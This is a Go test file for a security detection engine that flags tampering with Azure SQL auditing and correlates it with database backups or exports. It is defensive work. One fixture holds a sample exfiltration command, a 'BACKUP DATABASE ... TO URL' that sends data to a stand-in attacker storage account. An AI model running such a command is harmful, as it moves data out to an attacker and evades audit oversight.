package detect

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/xel/audit"
)

const (
	sqlServerID = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers/Microsoft.Sql/servers/SQL01"
	auditAcctID = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/auditacct"
	appID       = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers/Microsoft.Web/sites/xelwatch-app"
	topicID     = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers/Microsoft.EventGrid/systemTopics/xw-arm"
)

func newControl(t *testing.T, st State) (*Engine, *Control) {
	t.Helper()
	e, err := New(testConfig(t), st)
	if err != nil {
		t.Fatal(err)
	}
	c, err := NewControl(e, ControlConfig{AuditAccount: auditAcctID, AuditContainer: "sqldbauditlogs", AppResourceID: appID, Topics: []string{"xw-arm"}})
	if err != nil {
		t.Fatal(err)
	}
	return e, c
}

func armEvent(id, typ, op, uri string, at time.Time) *ControlEvent {
	return &ControlEvent{ID: id, Type: typ, Time: at, Operation: op, Resource: uri, Status: "Succeeded",
		Caller: "mallory@contoso.com", CallerIP: "203.0.113.7", CorrelationID: "corr-1"}
}

func evalControl(t *testing.T, c *Control, ev *ControlEvent) []string {
	t.Helper()
	fs, err := c.Evaluate(context.Background(), ev)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+"/"+f.Severity.String())
	}
	return out
}

func TestControlRules(t *testing.T) {
	at := t0
	cases := []struct {
		name string
		ev   *ControlEvent
		want []string
	}{
		{"audit settings write", armEvent("e1", EventResourceWriteSuccess, "Microsoft.Sql/servers/auditingSettings/write", sqlServerID+"/auditingSettings/default", at), []string{"AUD-008/high"}},
		{"audit settings write, disabled", func() *ControlEvent {
			e := armEvent("e2", EventResourceWriteSuccess, "microsoft.sql/servers/databases/extendedauditingsettings/write", sqlServerID+"/databases/db1/extendedAuditingSettings/default", at)
			e.AuditState = AuditStateDisabled
			return e
		}(), []string{"AUD-008/critical"}},
		{"audit settings write failed", armEvent("e3", EventResourceWriteFailure, "Microsoft.Sql/servers/auditingSettings/write", sqlServerID+"/auditingSettings/default", at), []string{"AUD-008/medium"}},
		{"diagnostic settings on sql", armEvent("e4", EventResourceDeleteSuccess, "Microsoft.Insights/diagnosticSettings/delete", sqlServerID+"/databases/master/providers/Microsoft.Insights/diagnosticSettings/audit", at), []string{"AUD-009/high"}},
		{"diagnostic settings elsewhere", armEvent("e5", EventResourceDeleteSuccess, "Microsoft.Insights/diagnosticSettings/delete", "/subscriptions/x/resourceGroups/rg/providers/Microsoft.Web/sites/other/providers/Microsoft.Insights/diagnosticSettings/d", at), nil},
		{"audit account keys listed", armEvent("e6", EventResourceActionSuccess, "Microsoft.Storage/storageAccounts/listKeys/action", auditAcctID, at), []string{"AUD-010/high"}},
		{"audit container deleted", armEvent("e7", EventResourceDeleteSuccess, "Microsoft.Storage/storageAccounts/blobServices/containers/delete", auditAcctID+"/blobServices/default/containers/sqldbauditlogs", at), []string{"AUD-010/critical"}},
		{"other account keys", armEvent("e8", EventResourceActionSuccess, "Microsoft.Storage/storageAccounts/listKeys/action", strings.Replace(auditAcctID, "auditacct", "auditacct2", 1), at), nil},
		{"app stopped", armEvent("e9", EventResourceActionSuccess, "Microsoft.Web/sites/stop/action", appID, at), []string{"AUD-011/critical"}},
		{"app settings", armEvent("e10", EventResourceWriteSuccess, "Microsoft.Web/sites/config/write", appID+"/config/appsettings", at), []string{"AUD-011/high"}},
		{"other app stopped", armEvent("e11", EventResourceActionSuccess, "Microsoft.Web/sites/stop/action", appID+"2", at), nil},
		{"subscription deleted", armEvent("e12", EventResourceDeleteSuccess, "Microsoft.EventGrid/systemTopics/eventSubscriptions/delete", topicID+"/eventSubscriptions/to-xelwatch", at), []string{"AUD-011/critical"}},
		{"scoped subscription on audit account", armEvent("e13", EventResourceDeleteSuccess, "Microsoft.EventGrid/eventSubscriptions/delete", auditAcctID+"/providers/Microsoft.EventGrid/eventSubscriptions/blobs", at), []string{"AUD-011/critical"}},
		{"unwatched operation", armEvent("e14", EventResourceWriteSuccess, "Microsoft.Sql/servers/firewallRules/write", sqlServerID+"/firewallRules/any", at), nil},
		{"unwatched event type", armEvent("e15", "Microsoft.Resources.ResourceWriteCancel", "Microsoft.Sql/servers/auditingSettings/write", sqlServerID, at), nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, c := newControl(t, NewMemoryState())
			if got := evalControl(t, c, tc.ev); !slices.Equal(got, tc.want) {
				t.Errorf("findings = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestControlFindingNamesEverything(t *testing.T) {
	_, c := newControl(t, NewMemoryState())
	ev := armEvent("4a1e-ev", EventResourceWriteFailure, "Microsoft.Sql/servers/auditingSettings/write", sqlServerID+"/auditingSettings/default", t0)
	ev.Status = "Failed"
	fs, err := c.Evaluate(context.Background(), ev)
	if err != nil || len(fs) != 1 {
		t.Fatalf("findings %v, err %v", fs, err)
	}
	f := fs[0]
	for _, want := range []string{"attempted", "Microsoft.Sql/servers/auditingSettings/write", sqlServerID, "mallory@contoso.com", "203.0.113.7", "corr-1", "4a1e-ev", "Failed"} {
		if !strings.Contains(f.Why, want) {
			t.Errorf("why %q lacks %q", f.Why, want)
		}
	}
	if f.Server != "sql01" || f.Principal != "mallory@contoso.com" || !f.Time.Equal(t0) || len(f.Records) != 1 {
		t.Errorf("finding = %+v", f)
	}
	again, _ := c.Evaluate(context.Background(), ev)
	if again[0].DetectionID != f.DetectionID {
		t.Errorf("redelivered event: id %s, first %s", again[0].DetectionID, f.DetectionID)
	}
	other := *ev
	other.ID = "another"
	o, _ := c.Evaluate(context.Background(), &other)
	if o[0].DetectionID == f.DetectionID {
		t.Error("two events share a detection id")
	}
}

func backupRec(at time.Time, server string) audit.Record {
	r := rec("BA", "DB", "BACKUP DATABASE [Sales] TO URL = N'https://evilacct.blob.core.windows.net/loot/s.bak' WITH COPY_ONLY")
	r.EventTime, r.ServerInstanceName, r.FileName, r.AuditFileOffset = at, server, "sql01/Sales/a/2026-11-21/x.xel", 8192
	return r
}

func aud012IDs(fs []Finding) []string {
	var out []string
	for _, f := range fs {
		if f.Rule == "AUD-012" {
			out = append(out, f.DetectionID)
		}
	}
	return out
}

// TestAUD012BothOrders: an ARM audit change and a BACKUP record of the
// same server give one AUD-012 finding with the same id whichever comes
// first, and nothing beyond the window or on another server.
func TestAUD012BothOrders(t *testing.T) {
	change := armEvent("chg", EventResourceWriteSuccess, "Microsoft.Sql/servers/auditingSettings/write", sqlServerID+"/auditingSettings/default", t0)
	// ARM first, then the record (server name as the record carries it).
	st := NewMemoryState()
	e, c := newControl(t, st)
	if _, err := c.Evaluate(context.Background(), change); err != nil {
		t.Fatal(err)
	}
	r := backupRec(t0.Add(10*time.Minute), "sql01.database.windows.net")
	fs, err := e.Evaluate(context.Background(), &r)
	if err != nil {
		t.Fatal(err)
	}
	first := aud012IDs(fs)
	if len(first) != 1 {
		t.Fatalf("ARM then record: AUD-012 %v; all %s", first, whys(fs))
	}
	// Record first, then ARM.
	e2, c2 := newControl(t, NewMemoryState())
	r2 := backupRec(t0.Add(10*time.Minute), "SQL01")
	if fs, _ := e2.Evaluate(context.Background(), &r2); len(aud012IDs(fs)) != 0 {
		t.Fatalf("record alone fired AUD-012")
	}
	fs2, err := c2.Evaluate(context.Background(), change)
	if err != nil {
		t.Fatal(err)
	}
	if got := aud012IDs(fs2); !slices.Equal(got, first) {
		t.Errorf("record then ARM: AUD-012 %v, want %v", got, first)
	}
	// Outside the window, or another server: nothing.
	e3, c3 := newControl(t, NewMemoryState())
	c3.Evaluate(context.Background(), change)
	late := backupRec(t0.Add(2*time.Hour), "sql01")
	other := backupRec(t0.Add(time.Minute), "sql02")
	for _, r := range []audit.Record{late, other} {
		if fs, _ := e3.Evaluate(context.Background(), &r); len(aud012IDs(fs)) != 0 {
			t.Errorf("%s at %s: AUD-012 fired", r.ServerInstanceName, r.EventTime)
		}
	}
	// A failed attempt does not arm the correlation.
	e4, c4 := newControl(t, NewMemoryState())
	failed := *change
	failed.Type = EventResourceWriteFailure
	c4.Evaluate(context.Background(), &failed)
	r4 := backupRec(t0.Add(time.Minute), "sql01")
	if fs, _ := e4.Evaluate(context.Background(), &r4); len(aud012IDs(fs)) != 0 {
		t.Error("an attempted change armed AUD-012")
	}
}

func TestAUD012Export(t *testing.T) {
	_, c := newControl(t, NewMemoryState())
	change := armEvent("chg", EventResourceWriteSuccess, "Microsoft.Sql/servers/auditingSettings/write", sqlServerID+"/auditingSettings/default", t0)
	export := armEvent("exp", EventResourceActionSuccess, "Microsoft.Sql/servers/databases/export/action", sqlServerID+"/databases/Sales", t0.Add(5*time.Minute))
	if got := evalControl(t, c, export); len(got) != 0 {
		t.Fatalf("export alone: %v", got)
	}
	got := evalControl(t, c, change)
	if !slices.Equal(got, []string{"AUD-008/high", "AUD-012/critical"}) {
		t.Fatalf("change after export: %v", got)
	}
	_, c2 := newControl(t, NewMemoryState())
	evalControl(t, c2, change)
	fs, err := c2.Evaluate(context.Background(), export)
	if err != nil || len(fs) != 1 || fs[0].Rule != "AUD-012" {
		t.Fatalf("export after change: %v %v", fs, err)
	}
	fs1, _ := c.Evaluate(context.Background(), change)
	if fs1[1].DetectionID != fs[0].DetectionID {
		t.Errorf("ids differ by arrival order: %s vs %s", fs1[1].DetectionID, fs[0].DetectionID)
	}
}

func TestAUD013(t *testing.T) {
	blob := func(seen, open bool, age time.Duration, container string) *ControlEvent {
		return &ControlEvent{ID: "del-1", Type: EventBlobDeleted, Time: t0, Operation: "DeleteBlob", Topic: auditAcctID,
			Resource: "https://auditacct.blob.core.windows.net/" + container + "/sql01/db/a/2026-11-21/x.xel",
			Blob:     &DeletedBlob{Container: container, Name: "sql01/db/a/2026-11-21/x.xel", Server: "sql01", Database: "db", Seen: seen, Open: open, Rows: 42, Age: age, AgeKnown: age > 0}}
	}
	cases := []struct {
		name string
		ev   *ControlEvent
		want int
	}{
		{"open cursor", blob(true, true, 72*time.Hour, "sqldbauditlogs"), 1},
		{"young closed", blob(true, false, time.Hour, "sqldbauditlogs"), 1},
		{"young never seen", blob(false, false, time.Minute, "sqldbauditlogs"), 1},
		{"retention", blob(true, false, 72*time.Hour, "sqldbauditlogs"), 0},
		{"never seen, old", blob(false, false, 72*time.Hour, "sqldbauditlogs"), 0},
		{"other container", blob(true, true, time.Hour, "backups"), 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, c := newControl(t, NewMemoryState())
			fs, err := c.Evaluate(context.Background(), tc.ev)
			if err != nil || len(fs) != tc.want {
				t.Fatalf("findings %v, err %v; want %d", fs, err, tc.want)
			}
			if tc.want == 1 {
				f := fs[0]
				if f.DetectionID != detectionID("AUD-013", "sqldbauditlogs/sql01/db/a/2026-11-21/x.xel", nil) {
					t.Errorf("id %s is not keyed on <container>/<blob>", f.DetectionID)
				}
				if !strings.Contains(f.Why, "42 rows") || !strings.Contains(f.Why, "sqldbauditlogs/sql01/db/a/2026-11-21/x.xel") {
					t.Errorf("why %q", f.Why)
				}
			}
		})
	}
}

func TestPlatformCatalog(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Catalog() {
		seen[r.ID] = true
	}
	for _, r := range PlatformCatalog() {
		if seen[r.ID] {
			t.Errorf("%s is in both catalogs", r.ID)
		}
		if r.Source != SourceAzure || len(r.EventTypes) == 0 || len(r.Roles) == 0 || r.Condition == "" {
			t.Errorf("%s: incomplete entry %+v", r.ID, r)
		}
		if ruleByID(r.ID) == nil {
			t.Errorf("%s: not found by id (severity overrides, disabling)", r.ID)
		}
	}
	for _, op := range OperationNames() {
		if ControlRuleFor(op) == "" {
			t.Errorf("operation %s maps to no rule", op)
		}
	}
	cfg := testConfig(t)
	cfg.DisabledRules = []string{"AUD-008"}
	e, err := New(cfg, NewMemoryState())
	if err != nil {
		t.Fatal(err)
	}
	c, _ := NewControl(e, ControlConfig{})
	if got := evalControl(t, c, armEvent("x", EventResourceWriteSuccess, "Microsoft.Sql/servers/auditingSettings/write", sqlServerID, t0)); len(got) != 0 {
		t.Errorf("disabled AUD-008 fired: %v", got)
	}
}

// TestBlobVanishedSharesAUD013Id: the sweep's report of an open cursor's
// blob gone and AuditControl's BlobDeleted finding are one detection.
func TestBlobVanishedSharesAUD013Id(t *testing.T) {
	e, c := newControl(t, NewMemoryState())
	const name = "sql01/db/a/2026-11-21/x.xel"
	fs, err := c.Evaluate(context.Background(), &ControlEvent{ID: "del-9", Type: EventBlobDeleted, Time: t0, Operation: "DeleteBlob", Topic: auditAcctID,
		Blob: &DeletedBlob{Container: "sqldbauditlogs", Name: name, Server: "sql01", Database: "db", Seen: true, Open: true, Rows: 7}})
	if err != nil || len(fs) != 1 {
		t.Fatalf("event: %v, %v", fs, err)
	}
	f, ok := e.BlobVanished("sqldbauditlogs", name, "sql01", "db", 7, t0.Add(time.Minute))
	if !ok {
		t.Fatal("BlobVanished: AUD-013 reported disabled")
	}
	if f.DetectionID != fs[0].DetectionID || f.Rule != "AUD-013" || f.Severity != High {
		t.Errorf("sweep finding %s %s %s; event finding %s", f.DetectionID, f.Rule, f.Severity, fs[0].DetectionID)
	}
	if !strings.Contains(f.Why, "7 rows") || !strings.Contains(f.Why, "sqldbauditlogs/"+name) {
		t.Errorf("why %q", f.Why)
	}
	if other, _ := e.BlobVanished("sqldbauditlogs", name+"x", "sql01", "db", 7, t0); other.DetectionID == f.DetectionID {
		t.Errorf("another blob has the same id")
	}

	cfg := DefaultConfig()
	cfg.DisabledRules = []string{"AUD-013"}
	off, err := New(cfg, NewMemoryState())
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := off.BlobVanished("sqldbauditlogs", name, "sql01", "db", 7, t0); ok {
		t.Errorf("disabled AUD-013 still reported")
	}
}
